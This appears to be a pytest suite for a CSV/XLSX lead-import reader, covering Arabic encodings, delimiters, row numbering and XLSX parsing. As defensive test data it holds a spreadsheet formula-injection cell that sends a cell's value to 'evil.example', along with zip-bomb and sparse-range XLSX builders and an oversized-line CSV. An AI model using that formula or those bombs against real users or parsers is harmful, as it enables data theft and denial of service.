"""The file reader (leedz.imports.reader): every file is generated here, nothing is committed.

Pure: no database. Rules: docs/imports.md.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import struct
import tracemalloc
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
import xlsxwriter  # type: ignore[import-untyped]  # no stubs, no py.typed
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from leedz.imports import reader
from leedz.imports.reader import (
    DELIMITERS,
    Detected,
    FileCorrupt,
    FileEmpty,
    FileEncodingUnknown,
    FileFormat,
    FileFormatUnsupported,
    FileTooComplex,
    ReadOptions,
    SheetNotFound,
    XlsxBomb,
    cell_text,
    column_letters,
    detect,
    numbered_rows,
    rows,
)

# Real sentences with every hamza seat, taa marbuta and alef maqsura, Latin mixed in.
ARABIC_ROWS = [
    ["مؤسسة الأمل للتجارة ذ.م.م", "0501234567", "جدة", "info@alamal.sa"],
    ["مطعم إبراهيم الخليل – فرع الرياض", "+966 50 123 4567", "الرياض", ""],
    ["آفاق الشاطئ للمقاولات", "0551112222", "الدمام", "sales@afaq.com"],
    ["مكتبة المؤمنين", "0533334444", "أبها", ""],
    ["صيدلية الهدى Al Huda Pharmacy", "0544445555", "مكة المكرمة", "huda@x.sa"],
    ["شركة رؤى الخليج ومستشفى الرئيسي", "0566667777", "مستورة", ""],
]
ARABIC_HEADER = ["الاسم", "الجوال", "المدينة", "البريد الإلكتروني"]


def csv_text(records: list[list[str]], delimiter: str = ",", newline: str = "\r\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    writer.writerows(records)
    return out.getvalue()


@pytest.fixture
def write(tmp_path: Path) -> Callable[[str, bytes], Path]:
    def _write(name: str, content: bytes) -> Path:
        path = tmp_path / name
        path.write_bytes(content)
        return path

    return _write


Write = Callable[[str, bytes], Path]


def read_all(path: Path, found: Detected | ReadOptions) -> list[tuple[int, list[str]]]:
    return list(numbered_rows(path, found))


def code_of(error: pytest.ExceptionInfo[reader.FileUnreadable]) -> str:
    return error.value.code


# ---------------------------------------------------------------------------------------------
# Encodings


class TestEncodings:
    @pytest.mark.parametrize(
        ("encoding", "prefix", "reported", "delimiter"),
        [
            ("utf-8", b"", "utf-8", ","),
            ("utf-8", b"\xef\xbb\xbf", "utf-8-sig", ","),
            ("utf-16-le", b"\xff\xfe", "utf-16-le", "\t"),  # Excel's "Unicode text" .txt
            ("utf-16-be", b"\xfe\xff", "utf-16-be", "\t"),
            ("utf-16-le", b"", "utf-16-le", "\t"),  # no BOM: the NUL bytes tell
            ("utf-32-le", b"\xff\xfe\x00\x00", "utf-32-le", ","),
            ("cp1256", b"", "cp1256", ","),  # Excel's "CSV" on Arabic Windows
            ("cp1256", b"", "cp1256", ";"),
        ],
    )
    def test_arabic_text_reads_back_exactly(
        self, write: Write, encoding: str, prefix: bytes, reported: str, delimiter: str
    ) -> None:
        text = csv_text([ARABIC_HEADER, *ARABIC_ROWS], delimiter)
        path = write("leads.txt", prefix + text.encode(encoding))
        found = detect(path, name="leads.txt")
        assert found.format is FileFormat.CSV
        assert found.encoding == reported
        assert found.delimiter == delimiter
        assert list(found.header) == ARABIC_HEADER
        assert [cells for _, cells in read_all(path, found)] == ARABIC_ROWS
        assert found.row_estimate == len(ARABIC_ROWS)

    @pytest.mark.parametrize(
        "sentence",
        [
            "مدرسة الفتاة",
            "مستشفى الهدى",
            "مؤسسة أبها",
            "إدارة المياه",
            "آل سعود",
            "شاطئ الرؤى",
            "ى ة أ إ آ ؤ ئ",
            "Café الزهراء",
        ],
    )
    def test_a_short_windows_1256_file_is_not_taken_for_a_latin_one(
        self, write: Write, sentence: str
    ) -> None:
        path = write("x.csv", f"Name,City\n{sentence},جدة\n".encode("cp1256"))
        found = detect(path, name="x.csv")
        assert found.encoding == "cp1256"
        assert found.sample_rows == ((sentence, "جدة"),)

    @pytest.mark.parametrize(
        ("text", "encoding"),
        [
            ("Name,City\nMüller Straße,München\nJoão Ávila,São Paulo\n", "cp1252"),
            ("Nom,Ville\nCrème brûlée Société,Orléans\n", "cp1252"),
        ],
    )
    def test_latin_text_in_a_windows_code_page_reads_back(
        self, write: Write, text: str, encoding: str
    ) -> None:
        path = write("x.csv", text.encode(encoding))
        found = detect(path, name="x.csv")
        assert found.encoding != "cp1256"
        records = list(csv.reader(io.StringIO(text)))
        assert [cells for _, cells in read_all(path, found)] == records[1:]

    def test_windows_1256_after_a_mib_of_ascii_is_found_from_the_failure(
        self, write: Write
    ) -> None:
        ascii_rows = [[f"Shop {i}", f"05{i:08d}", "Jeddah"] for i in range(40_000)]
        text = csv_text([["Name", "Phone", "City"], *ascii_rows, ["مؤسسة الأمل", "0501", "جدة"]])
        assert len(text) > reader.ENCODING_SAMPLE_BYTES
        path = write("x.csv", text.encode("cp1256"))
        found = detect(path, name="x.csv")
        assert found.encoding == "cp1256"
        assert read_all(path, found)[-1] == (40_002, ["مؤسسة الأمل", "0501", "جدة"])

    def test_utf16_that_does_not_decode_is_refused(self, write: Write) -> None:
        # A lone low surrogate half-way: not UTF-16 text.
        body = "Name\tCity\r\nA\tB\r\n".encode("utf-16-le") + b"\x00\xdc" + "x".encode("utf-16-le")
        path = write("x.txt", b"\xff\xfe" + body)
        with pytest.raises(FileEncodingUnknown):
            detect(path, name="x.txt")

    def test_a_nul_after_the_sample_is_binary(self, write: Write) -> None:
        text = csv_text([["Name"], *[[f"n{i}"] for i in range(200_000)]])
        path = write("x.csv", text.encode() + b"\x00\x01\x02")
        with pytest.raises(FileFormatUnsupported):
            detect(path, name="x.csv")


# ---------------------------------------------------------------------------------------------
# Delimiters and CSV syntax


class TestDelimiters:
    @pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
    def test_each_delimiter_is_sniffed(self, write: Write, delimiter: str) -> None:
        records = [
            ["Name", "Phone", "Notes"],
            ["Al Amal, Trading; Co | Ltd", "0501234567", "a\tb"],
            ["B", "0502", "plain"],
            ["C", "0503", ""],
        ]
        path = write("x.csv", csv_text(records, delimiter).encode())
        found = detect(path, name="x.csv")
        assert found.delimiter == delimiter
        assert [cells for _, cells in read_all(path, found)] == records[1:]

    def test_a_one_column_file_has_one_column(self, write: Write) -> None:
        path = write("x.csv", b"Phone\n0501234567\n0502222222\n")
        found = detect(path, name="x.csv")
        assert found.header == ("Phone",)
        assert [cells for _, cells in read_all(path, found)] == [["0501234567"], ["0502222222"]]

    def test_a_one_column_tsv_says_tab(self, write: Write) -> None:
        found = detect(write("x.tsv", b"Phone\n0501\n"), name="x.tsv")
        assert found.delimiter == "\t"

    def test_excels_sep_line_names_the_delimiter_and_is_not_a_row(self, write: Write) -> None:
        path = write("x.csv", b"sep=;\r\nName;City,Region\r\nA;Jeddah, Makkah\r\n")
        found = detect(path, name="x.csv")
        assert found.delimiter == ";"
        assert found.header == ("Name", "City,Region")
        assert read_all(path, found) == [(2, ["A", "Jeddah, Makkah"])]

    def test_quoted_newlines_and_doubled_quotes(self, write: Write) -> None:
        raw = (
            'Name,Address,Phone\r\n"Al ""Amal""","Building 4\nKing Fahd Rd\r\nJeddah",0501\r\n'
            "B,x,0502\r\n"
        )
        path = write("x.csv", raw.encode())
        found = detect(path, name="x.csv")
        assert read_all(path, found) == [
            (2, ['Al "Amal"', "Building 4\nKing Fahd Rd\r\nJeddah", "0501"]),
            (3, ["B", "x", "0502"]),  # the record's number, as a spreadsheet shows it
        ]

    def test_a_formula_is_plain_text(self, write: Write) -> None:
        formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        path = write("x.csv", csv_text([["Name", "Website"], ["A", formula]]).encode())
        found = detect(path, name="x.csv")
        assert list(rows(path, found)) == [["A", formula]]

    def test_a_quote_that_never_closes_within_the_cell_limit_is_refused(self, write: Write) -> None:
        raw = 'Name,Notes\nA,"open\n' + "B,x\n" * 40_000
        path = write("x.csv", raw.encode())
        with pytest.raises(FileCorrupt) as refused:
            detect(path, name="x.csv")
        assert refused.value.extra["row"] == 2


# ---------------------------------------------------------------------------------------------
# Rows: numbers, empty rows, ragged rows, header


class TestRows:
    def test_empty_rows_keep_their_numbers_trailing_ones_go(self, write: Write) -> None:
        raw = "\n\nName,Phone\nA,1\n,\n\n  , \nB,2\n,,\n\n\n"
        path = write("x.csv", raw.encode())
        found = detect(path, name="x.csv")
        assert found.row_estimate == 5
        assert read_all(path, found) == [
            (4, ["A", "1"]),
            (5, ["", ""]),
            (6, ["", ""]),
            (7, ["", ""]),
            (8, ["B", "2"]),
        ]

    def test_ragged_rows_are_padded_and_widened(self, write: Write) -> None:
        raw = "Name,Phone,,\nA\nB,2,extra,\nC,3,,,,\n"
        path = write("x.csv", raw.encode())
        found = detect(path, name="x.csv")
        assert found.header == ("Name", "Phone", "Column C")
        assert [cells for _, cells in read_all(path, found)] == [
            ["A", "", ""],
            ["B", "2", "extra"],
            ["C", "3", ""],
        ]

    def test_blank_and_repeated_header_names_become_unique(self, write: Write) -> None:
        raw = "Phone,,phone,Phone, Name \n1,2,3,4,5\n"
        found = detect(write("x.csv", raw.encode()), name="x.csv")
        assert found.header == ("Phone", "Column B", "phone (2)", "Phone (3)", "Name")

    def test_a_header_cell_with_a_line_break_is_one_line(self, write: Write) -> None:
        found = detect(write("x.csv", b'"Phone\nnumber",x\n1,2\n'), name="x.csv")
        assert found.header == ("Phone number", "x")

    def test_header_only(self, write: Write) -> None:
        path = write("x.csv", b"Name,Phone\r\n")
        found = detect(path, name="x.csv")
        assert (found.header, found.row_estimate, found.sample_rows) == (("Name", "Phone"), 0, ())
        assert read_all(path, found) == []

    @pytest.mark.parametrize(
        "content", [b"", b"\xef\xbb\xbf", b"\r\n\r\n", b",,,\n,,\n", b"\xff\xfe", b"   \n"]
    )
    def test_nothing_to_read_is_file_empty(self, write: Write, content: bytes) -> None:
        with pytest.raises(FileEmpty) as refused:
            detect(write("x.csv", content), name="x.csv")
        assert code_of(refused) == "file_empty"

    def test_too_many_columns(self, write: Write) -> None:
        header = ",".join(f"c{i}" for i in range(reader.MAX_COLUMNS + 1))
        with pytest.raises(FileTooComplex):
            detect(write("x.csv", f"{header}\n".encode()), name="x.csv")

    def test_resuming_after_a_row_number(self, write: Write) -> None:
        path = write("x.csv", b"N\na\nb\nc\nd\n")
        found = detect(path, name="x.csv")
        assert list(numbered_rows(path, found, after=3)) == [(4, ["c"]), (5, ["d"])]

    def test_stored_detection_reads_the_same(self, write: Write) -> None:
        path = write("x.csv", csv_text([ARABIC_HEADER, *ARABIC_ROWS], ";").encode("cp1256"))
        found = detect(path, name="x.csv")
        again = Detected.from_json(found.as_json())
        assert again == found
        assert read_all(path, again) == read_all(path, found)

    def test_as_json_is_the_api_shape(self, write: Write) -> None:
        found = detect(write("x.csv", b"Name,Mobile\nA,0501\n"), name="x.csv")
        assert found.as_json() == {
            "format": "CSV",
            "encoding": "utf-8",
            "delimiter": ",",
            "header": ["Name", "Mobile"],
            "sampleRows": [["A", "0501"]],
            "rowEstimate": 1,
            "suggestedMapping": {"Name": "name", "Mobile": "phones"},
            "sheets": [],
            "sheet": None,
        }

    def test_samples_are_the_first_rows(self, write: Write) -> None:
        path = write("x.csv", ("N\n" + "".join(f"r{i}\n" for i in range(20))).encode())
        found = detect(path, name="x.csv")
        assert found.sample_rows == tuple((f"r{i}",) for i in range(reader.SAMPLE_ROWS))
        assert found.row_estimate == 20


class TestStreaming:
    """A CSV streams: memory does not grow with the number of rows."""

    def _peak_while_reading(self, path: Path, found: Detected, limit: int) -> tuple[int, int]:
        tracemalloc.start()
        try:
            count = 0
            for count, _ in enumerate(rows(path, found), start=1):
                if count == limit:
                    break
            return count, tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    def _write(self, path: Path, count: int) -> Path:
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file)
            writer.writerow(["الاسم", "الجوال", "المدينة", "ملاحظات"])
            for i in range(count):
                writer.writerow([f"مؤسسة رقم {i}", f"05{i:08d}", "جدة", "سطر\nثان"])
        return path

    def _detect_peak(self, path: Path) -> tuple[Detected, int]:
        tracemalloc.start()
        try:
            return detect(path, name=path.name), tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    def test_200000_rows_read_in_flat_memory(self, tmp_path: Path) -> None:
        small = self._write(tmp_path / "small.csv", 100_000)
        path = self._write(tmp_path / "big.csv", 200_000)
        assert path.stat().st_size > 10_000_000
        _, small_peak = self._detect_peak(small)
        found, detect_peak = self._detect_peak(path)
        assert found.row_estimate == 200_000
        # detect holds its samples and 1 MiB chunks: twice the rows, the same peak.
        assert detect_peak < small_peak + 1_000_000
        few, few_peak = self._peak_while_reading(path, found, 2_000)
        every, every_peak = self._peak_while_reading(path, found, 10**9)
        assert (few, every) == (2_000, 200_000)
        # The file is 10+ MB; reading keeps a buffer and one row, whatever their number.
        assert every_peak < 4_000_000
        assert every_peak < few_peak + 1_000_000


# ---------------------------------------------------------------------------------------------
# Formats told by content


PNG_1X1 = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f"
    b"\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00"
    b"\x00IEND\xaeB`\x82"
)


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


class TestFormats:
    @pytest.mark.parametrize(
        ("name", "content"),
        [
            ("image.csv", PNG_1X1),
            ("report.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),
            ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
            ("leads.csv", b"\x1f\x8b\x08\x00" + bytes(20)),
            ("page.csv", b"<!DOCTYPE html><html><body>Name,Phone</body></html>"),
            ("data.xml", b'\xef\xbb\xbf<?xml version="1.0"?><Workbook/>'),
            ("garbage.csv", random.Random(15).randbytes(8192)),
            ("no-nul.csv", bytes(b for b in random.Random(3).randbytes(65536) if b)),
            ("plain.zip.csv", _zip({"notes.txt": b"Name,Phone\n"})),
            (
                "sheet.ods",
                _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
            ),
            (
                "letter.xlsx",
                _zip(
                    {
                        "[Content_Types].xml": b'<Types><Override ContentType="application/'
                        b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"'
                        b"/></Types>",
                        "word/document.xml": b"<w:document/>",
                    }
                ),
            ),
        ],
    )
    def test_what_is_not_csv_or_xlsx_is_refused(
        self, write: Write, name: str, content: bytes
    ) -> None:
        with pytest.raises(FileFormatUnsupported) as refused:
            detect(write(name, content), name=name)
        assert code_of(refused) == "file_format_unsupported"

    def test_a_csv_named_xlsx_is_read_as_csv(self, write: Write) -> None:
        found = detect(write("leads.xlsx", b"Name,Phone\nA,1\n"), name="leads.xlsx")
        assert found.format is FileFormat.CSV

    def test_an_xlsx_named_csv_is_read_as_xlsx(self, tmp_path: Path) -> None:
        path = tmp_path / "leads.csv"
        with xlsxwriter.Workbook(str(path)) as book:
            book.add_worksheet().write_row(0, 0, ["Name"])
        assert detect(path, name="leads.csv").format is FileFormat.XLSX


# ---------------------------------------------------------------------------------------------
# XLSX


def make_xlsx(path: Path, sheets: dict[str, Sequence[Sequence[object]]], **options: object) -> Path:
    with xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, **options}) as book:
        date = book.add_format({"num_format": "yyyy-mm-dd"})
        stamp = book.add_format({"num_format": "yyyy-mm-dd hh:mm"})
        for name, records in sheets.items():
            sheet = book.add_worksheet(name)
            for r, record in enumerate(records):
                for c, value in enumerate(record):
                    if isinstance(value, dt.datetime):
                        sheet.write_datetime(r, c, value, stamp)
                    elif isinstance(value, dt.date):
                        sheet.write_datetime(r, c, value, date)
                    elif value is not None:
                        sheet.write(r, c, value)
    return path


class TestXlsx:
    def test_numbers_dates_and_text(self, tmp_path: Path) -> None:
        path = make_xlsx(
            tmp_path / "leads.xlsx",
            {
                "عملاء": [
                    ["الاسم", "رقم الهاتف", "تاريخ الإضافة", "آخر اتصال", "التقييم", "عدم التواصل"],
                    ["مؤسسة الأمل", 966501234567, dt.date(2026, 12, 1),
                     dt.datetime(2026, 12, 1, 9, 30), 4.5, False],
                    ["آفاق الشاطئ", 501234567.0, None, None, 0.0000001, True],
                    ['=HYPERLINK("http://x","y")', "٠٥٠١٢٣٤٥٦٧", None, None, 123456789012345, None],
                ]
            },
        )  # fmt: skip
        found = detect(path, name="leads.xlsx")
        assert found.format is FileFormat.XLSX
        assert (found.encoding, found.delimiter) == (None, None)
        assert found.sheets == ("عملاء",)
        assert found.sheet == "عملاء"
        assert found.suggested_mapping["رقم الهاتف"] == "phones"
        assert read_all(path, found) == [
            (2, ["مؤسسة الأمل", "966501234567", "2026-12-01", "2026-12-01T09:30:00", "4.5",
                 "FALSE"]),
            (3, ["آفاق الشاطئ", "501234567", "", "", "0.0000001", "TRUE"]),
            (4, ['=HYPERLINK("http://x","y")', "٠٥٠١٢٣٤٥٦٧", "", "", "123456789012345", ""]),
        ]  # fmt: skip

    def test_a_formula_cell_is_its_cached_value_never_its_formula(self, tmp_path: Path) -> None:
        path = tmp_path / "f.xlsx"
        with xlsxwriter.Workbook(str(path)) as book:
            sheet = book.add_worksheet()
            sheet.write_row(0, 0, ["Name", "Website"])
            sheet.write_string(1, 0, "A")
            sheet.write_formula(1, 1, '=HYPERLINK("http://evil.example","x")', None, "x")
        assert list(rows(path, detect(path, name="f.xlsx"))) == [["A", "x"]]

    def test_sheets_empty_rows_and_offsets(self, tmp_path: Path) -> None:
        path = make_xlsx(
            tmp_path / "multi.xlsx",
            {
                "Summary": [["Total"], [3]],
                "Leads": [[], [], [None, "Name", "Mobile"], [None, "A", 501], [], [None, "B", 502],
                          [], []],
                "Empty": [],
            },
        )  # fmt: skip
        first = detect(path, name="multi.xlsx")
        assert (first.sheets, first.sheet, first.header) == (
            ("Summary", "Leads", "Empty"),
            "Summary",
            ("Total",),
        )
        leads = detect(path, name="multi.xlsx", sheet="Leads")
        assert leads.header == ("Name", "Mobile")
        assert read_all(path, leads) == [(4, ["A", "501"]), (5, ["", ""]), (6, ["B", "502"])]
        # Another sheet than the detected one: as wide as its own header.
        assert list(numbered_rows(path, first, sheet="Leads")) == read_all(path, leads)
        with pytest.raises(FileEmpty):
            detect(path, name="multi.xlsx", sheet="Empty")
        with pytest.raises(SheetNotFound) as refused:
            detect(path, name="multi.xlsx", sheet="Nope")
        assert refused.value.extra["sheets"] == ("Summary", "Leads", "Empty")

    def test_the_default_sheet_is_the_first_visible_one(self, tmp_path: Path) -> None:
        path = tmp_path / "hidden.xlsx"
        with xlsxwriter.Workbook(str(path)) as book:
            hidden = book.add_worksheet("Lookup")
            hidden.write_row(0, 0, ["code"])
            shown = book.add_worksheet("Leads")
            shown.write_row(0, 0, ["Name"])
            shown.activate()
            hidden.hide()
        assert detect(path, name="hidden.xlsx").sheet == "Leads"

    def test_header_only_and_one_column(self, tmp_path: Path) -> None:
        path = make_xlsx(tmp_path / "h.xlsx", {"S": [["Phone"]]})
        found = detect(path, name="h.xlsx")
        assert (found.header, found.row_estimate) == (("Phone",), 0)
        assert list(rows(path, found)) == []

    def test_a_truncated_xlsx_is_corrupt(self, tmp_path: Path) -> None:
        whole = make_xlsx(tmp_path / "w.xlsx", {"S": [["Name"], *[[f"n{i}"] for i in range(500)]]})
        data = whole.read_bytes()
        for cut in (len(data) // 2, len(data) - 30, 100):
            path = tmp_path / f"cut{cut}.xlsx"
            path.write_bytes(data[:cut])
            with pytest.raises(FileCorrupt) as refused:
                detect(path, name="cut.xlsx")
            assert code_of(refused) == "file_corrupt"

    def test_a_damaged_member_is_corrupt(self, tmp_path: Path) -> None:
        path = make_xlsx(tmp_path / "d.xlsx", {"S": [["Name"], *[[f"n{i}"] for i in range(500)]]})
        data = bytearray(path.read_bytes())
        with zipfile.ZipFile(path) as archive:
            info = archive.getinfo("xl/worksheets/sheet1.xml")
        start = info.header_offset + 30 + len(info.filename) + len(info.extra)
        data[start + 10] ^= 0xFF  # inside the compressed sheet
        path.write_bytes(bytes(data))
        with pytest.raises(FileCorrupt):
            detect(path, name="d.xlsx")

    def test_a_member_larger_than_declared_is_corrupt(self, tmp_path: Path) -> None:
        """A header that lies about the size (to pass the bomb check) is caught on reading."""
        path = make_xlsx(tmp_path / "l.xlsx", {"S": [["Name"], *[[f"n{i}"] for i in range(500)]]})
        data = bytearray(path.read_bytes())
        with zipfile.ZipFile(path) as archive:
            info = archive.getinfo("xl/worksheets/sheet1.xml")
        central = data.find(b"PK\x01\x02" + data[info.header_offset + 4 : info.header_offset + 6])
        while central != -1:
            name_length = struct.unpack_from("<H", data, central + 28)[0]
            if data[central + 46 : central + 46 + name_length] == info.filename.encode():
                break
            central = data.find(b"PK\x01\x02", central + 4)
        struct.pack_into("<I", data, central + 24, 100)  # uncompressed size in the directory
        struct.pack_into("<I", data, info.header_offset + 22, 100)  # and in the local header
        path.write_bytes(bytes(data))
        with pytest.raises(FileCorrupt):
            detect(path, name="l.xlsx")


class TestXlsxBombs:
    def _bomb(self, tmp_path: Path, sheet: bytes) -> Path:
        content_types = (
            b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
        )
        path = tmp_path / "bomb.xlsx"
        path.write_bytes(
            _zip(
                {
                    "[Content_Types].xml": content_types,
                    "xl/workbook.xml": b"<workbook/>",
                    "xl/worksheets/sheet1.xml": sheet,
                }
            )
        )
        return path

    def test_a_sheet_of_zeros_is_a_bomb(self, tmp_path: Path) -> None:
        path = self._bomb(tmp_path, b"0" * (64 << 20))
        assert path.stat().st_size < 200_000
        for read in (
            lambda: detect(path, name="bomb.xlsx"),
            lambda: list(rows(path, ReadOptions(FileFormat.XLSX))),
        ):
            with pytest.raises(XlsxBomb) as refused:
                read()
            assert code_of(refused) == "xlsx_bomb"
            assert isinstance(refused.value, FileTooComplex)

    def test_the_declared_total_is_capped(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        path = self._bomb(tmp_path, random.Random(1).randbytes(300_000))  # incompressible
        monkeypatch.setattr(reader, "XLSX_MAX_TOTAL_BYTES", 200_000)
        with pytest.raises(XlsxBomb):
            detect(path, name="bomb.xlsx")

    def test_the_member_count_is_capped(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        path = self._bomb(tmp_path, b"<worksheet/>")
        monkeypatch.setattr(reader, "XLSX_MAX_MEMBERS", 2)
        with pytest.raises(XlsxBomb):
            detect(path, name="bomb.xlsx")

    def test_a_legitimate_sheet_is_far_below_the_ratio(self, tmp_path: Path) -> None:
        records: list[list[object]] = [["Name", "Phone"]]
        records += [["مؤسسة الأمل", 966500000000 + i] for i in range(30_000)]
        path = make_xlsx(tmp_path / "real.xlsx", {"S": records})
        assert detect(path, name="real.xlsx").row_estimate == 30_000


# ---------------------------------------------------------------------------------------------
# Small parts


class TestCellText:
    @pytest.mark.parametrize(
        ("value", "text"),
        [
            (966501234567.0, "966501234567"),
            (501234567, "501234567"),
            (4.5, "4.5"),
            (1e-07, "0.0000001"),
            (1e20, "100000000000000000000"),
            (-0.0, "0"),
            (float("nan"), ""),
            (True, "TRUE"),
            (False, "FALSE"),
            (dt.date(2026, 1, 2), "2026-01-02"),
            (dt.datetime(2026, 1, 2), "2026-01-02"),
            (dt.datetime(2026, 1, 2, 3, 4, 5), "2026-01-02T03:04:05"),
            (dt.time(3, 4), "03:04:00"),
            (dt.timedelta(hours=25), "1 day, 1:00:00"),
            ("  كما هو ", "  كما هو "),
            (None, ""),
        ],
    )
    def test_cell_text(self, value: object, text: str) -> None:
        assert cell_text(value) == text

    @pytest.mark.parametrize(("index", "letters"), [(0, "A"), (25, "Z"), (26, "AA"), (701, "ZZ")])
    def test_column_letters(self, index: int, letters: str) -> None:
        assert column_letters(index) == letters

    def test_a_csv_needs_its_encoding_and_delimiter(self, write: Write) -> None:
        with pytest.raises(ValueError, match="encoding"):
            list(rows(write("x.csv", b"a\n"), ReadOptions(FileFormat.CSV)))


def _with_sheet_xml(tmp_path: Path, name: str, sheet_data: bytes) -> Path:
    """A real workbook (XlsxWriter) whose first worksheet's cells are `sheet_data`."""
    base = make_xlsx(tmp_path / "base.xlsx", {"S": [["x"]]})
    xml = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://'
        b'schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + sheet_data
        + b"</sheetData></worksheet>"
    )
    with zipfile.ZipFile(base) as source:
        members = {
            info.filename: xml if info.filename == "xl/worksheets/sheet1.xml" else source.read(info)
            for info in source.infolist()
        }
    path = tmp_path / name
    path.write_bytes(_zip(members))
    return path


class TestSparseRanges:
    """python-calamine allocates the whole rectangle up to the farthest cell: a few far-apart
    cells in a 5 KB file would abort the process. Refused before it opens the file."""

    def test_two_cells_far_apart(self, tmp_path: Path) -> None:
        path = tmp_path / "sparse.xlsx"
        with xlsxwriter.Workbook(str(path)) as book:
            sheet = book.add_worksheet()
            sheet.write(0, 0, "Name")
            sheet.write(1_048_575, 16_383, "x")
        assert path.stat().st_size < 10_000
        with pytest.raises(XlsxBomb):
            reader.check_xlsx(path)
        with pytest.raises(XlsxBomb) as refused:
            detect(path, name="sparse.xlsx")
        assert code_of(refused) == "xlsx_bomb"
        with pytest.raises(XlsxBomb):
            list(rows(path, ReadOptions(FileFormat.XLSX)))

    @pytest.mark.parametrize(
        "far",
        [
            b'<c r="XFD1048576"><v>1</v></c>',
            b'<c r="xfd1048576"><v>1</v></c>',  # lower case
            b"<c r='XFD1048576'><v>1</v></c>",  # single quotes
            b'<c s="0"\n r = "XFD1048576"><v>1</v></c>',  # spaces, a line break, r not first
            b'<c r="XFD0001048576"><v>1</v></c>',  # leading zeros
            b'<x:c xmlns:x="urn:x" r="XFD1048576"><x:v>1</x:v></x:c>',  # a prefix
        ],
    )
    def test_every_spelling_of_a_far_reference(self, tmp_path: Path, far: bytes) -> None:
        path = _with_sheet_xml(
            tmp_path, "far.xlsx", b'<row r="1"><c r="A1"><v>1</v></c>' + far + b"</row>"
        )
        with pytest.raises(XlsxBomb):
            reader.check_xlsx(path)

    def test_cells_without_references_far_down(self, tmp_path: Path) -> None:
        wide = b"<row>" + b"<c><v>1</v></c>" * 300 + b"</row>"
        path = _with_sheet_xml(tmp_path, "implicit.xlsx", wide + b'<row r="1048576"><c/></row>')
        with pytest.raises(XlsxBomb):
            reader.check_xlsx(path)

    def test_cells_without_references_are_read(self, tmp_path: Path) -> None:
        cells = (
            b'<c t="inlineStr"><is><t>Name</t></is></c><c t="inlineStr"><is><t>Phone</t></is></c>'
        )
        path = _with_sheet_xml(
            tmp_path, "implicit.xlsx", b"<row>" + cells + b"</row><row><c/><c><v>501</v></c></row>"
        )
        found = detect(path, name="implicit.xlsx")
        assert found.header == ("Name", "Phone")
        assert read_all(path, found) == [(2, ["", "501"])]

    def test_a_dense_sheet_within_the_limit(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        path = make_xlsx(tmp_path / "d.xlsx", {"S": [["a", "b", "c"]] * 10})
        monkeypatch.setattr(reader, "XLSX_MAX_CELLS", 30)
        reader.check_xlsx(path)
        monkeypatch.setattr(reader, "XLSX_MAX_CELLS", 29)
        with pytest.raises(XlsxBomb):
            reader.check_xlsx(path)


class TestHostileCsv:
    def test_a_line_of_a_million_commas(self, write: Write) -> None:
        path = write("x.csv", b"Name,Phone\n" + b"," * (reader.MAX_LINE_CHARS + 10) + b"\n")
        with pytest.raises(FileTooComplex):
            detect(path, name="x.csv")

    def test_a_long_first_line_is_not_read_whole_for_the_sep_hint(self, write: Write) -> None:
        path = write("x.csv", b"sep" + b"x" * 100 + b",b\n1,2\n")
        found = detect(path, name="x.csv")
        assert found.header == ("sep" + "x" * 100, "b")


_CELL_TEXT = st.text(
    alphabet=st.sampled_from('abc xyz,;|\t"\n\r=+-@0123456789مؤسسةالأمل؛،'), max_size=12
)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    delimiter=st.sampled_from(DELIMITERS),
    body=st.lists(
        st.tuples(st.sampled_from(["مؤسسة", "Shop", "A"]), _CELL_TEXT, _CELL_TEXT),
        min_size=1,
        max_size=30,
    ),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16"]),
)
def test_what_csv_writer_wrote_reads_back(
    tmp_path: Path, delimiter: str, body: list[tuple[str, str, str]], encoding: str
) -> None:
    """Any cells, quoted as Python's csv module quotes them, in any delimiter and encoding:
    the rows come back exactly, with their numbers."""
    records = [["Name", "Phone", "Notes"], *[list(row) for row in body]]
    path = tmp_path / f"p-{abs(hash((delimiter, encoding, tuple(body))))}.csv"
    path.write_bytes(csv_text(records, delimiter).encode(encoding))
    found = detect(path, name=path.name)
    assert found.delimiter == delimiter
    assert read_all(path, found) == [(i, row) for i, row in enumerate(records[1:], start=2)]
